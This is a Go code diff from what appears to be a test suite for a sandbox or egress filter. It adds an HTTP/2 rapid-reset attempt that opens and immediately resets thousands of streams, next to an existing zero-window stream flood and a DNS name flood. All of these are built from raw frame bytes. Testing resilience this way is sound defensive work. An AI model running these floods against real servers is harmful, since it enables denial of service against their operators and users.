@@ -17,6 +17,7 @@ import (
 func floods() []attempt {
 	return []attempt{
 		{name: "streams without a window, HTTP/2", needs: allowed, try: noWindow, trace: traceOf("421")},
+		{name: "streams that are reset at once, HTTP/2", needs: allowed, try: resetStreams},
 		{name: "20,000 names at once", try: nameFlood, trace: func(t Target) string { return ifList(t, "dns A") }},
 		{name: "local network, after the floods", try: refusedConnection("10.255.255.1:443"), trace: traceOf("10.255.255.1")},
 	}
@@ -26,28 +27,66 @@ func floods() []attempt {
 // none of.
 func noWindow(ctx context.Context, t Target) (bool, string) {
 	const conns, streams = 12, 100
-	d := tls.Dialer{Config: &tls.Config{ServerName: t.Allowed, NextProtos: []string{"h2"}}}
 	opened := 0
 	for range conns {
-		conn, err := d.DialContext(ctx, "tcp", net.JoinHostPort(t.Allowed, "443"))
+		conn, err := http2Conn(ctx, t)
 		if err != nil {
 			break // there are enough
 		}
 		defer conn.Close()
-		conn.SetDeadline(time.Now().Add(atOnce))
-		io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
-		conn.Write([]byte{0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE is 0
-		// GET https://attack.invalid/, RFC 7541 A.
-		const host = "attack.invalid"
-		head := append([]byte{0x82, 0x87, 0x84, 0x01, byte(len(host))}, host...)
 		for i := range streams {
-			frame := binary.BigEndian.AppendUint32([]byte{0, 0, byte(len(head)), 1, 5}, uint32(2*i+1))
-			if _, err := conn.Write(append(frame, head...)); err != nil {
+			if _, err := conn.Write(otherHostStream(i)); err != nil {
 				break
 			}
 			opened++
 		}
 	}
+	return afterStreams(ctx, opened)
+}
+
+// resetStreams opens streams for another host and gives each up before it is answered: none
+// of them counts as open.
+func resetStreams(ctx context.Context, t Target) (bool, string) {
+	conn, err := http2Conn(ctx, t)
+	if err != nil {
+		return gotThrough("the allowed host does not answer: %v", err)
+	}
+	defer conn.Close()
+	opened := 0
+	for i := range 5000 {
+		reset := binary.BigEndian.AppendUint32([]byte{0, 0, 4, 3, 0}, uint32(2*i+1))
+		if _, err := conn.Write(append(otherHostStream(i), append(reset, 0, 0, 0, 8)...)); err != nil {
+			break // it was ended
+		}
+		opened++
+	}
+	return afterStreams(ctx, opened)
+}
+
+// http2Conn returns a connection to the allowed host, with the beginning of HTTP/2 and no
+// window for answers.
+func http2Conn(ctx context.Context, t Target) (net.Conn, error) {
+	d := tls.Dialer{Config: &tls.Config{ServerName: t.Allowed, NextProtos: []string{"h2"}}}
+	conn, err := d.DialContext(ctx, "tcp", net.JoinHostPort(t.Allowed, "443"))
+	if err != nil {
+		return nil, err
+	}
+	conn.SetDeadline(time.Now().Add(atOnce))
+	io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+	conn.Write([]byte{0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE is 0
+	return conn, nil
+}
+
+// otherHostStream returns the frame that opens stream i with a request for another host.
+func otherHostStream(i int) []byte {
+	// GET https://attack.invalid/, RFC 7541 A.
+	const host = "attack.invalid"
+	head := append([]byte{0x82, 0x87, 0x84, 0x01, byte(len(host))}, host...)
+	return append(binary.BigEndian.AppendUint32([]byte{0, 0, byte(len(head)), 1, 5}, uint32(2*i+1)), head...)
+}
+
+// afterStreams expects that some could be opened, and that the network works after them.
+func afterStreams(ctx context.Context, opened int) (bool, string) {
 	if opened == 0 {
 		return gotThrough("the allowed host does not answer")
 	}
